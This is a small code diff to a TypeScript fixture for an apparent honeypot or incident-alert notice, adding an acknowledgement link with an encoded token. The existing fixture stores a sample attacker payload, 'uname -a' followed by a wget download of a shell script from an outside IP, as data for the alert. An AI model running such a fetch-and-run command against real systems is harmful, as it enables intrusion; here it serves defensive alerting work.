@@ -35,6 +35,7 @@ export const ordinary: Notice = {
   payload: 'uname -a; wget http://203.0.113.9/x.sh',
   advice: 'Block the address and look where else it logged in.',
   link: 'https://decoyverse.example.com/incidents/inc-0011223344556677?tab=why&from=mail',
+  acknowledge: 'https://decoyverse.example.com/acknowledge#WyJ1c2VyLTEiXQ.c2lnbmF0dXJl',
 };
 
 /** One value with everything that means something to some receiver. */
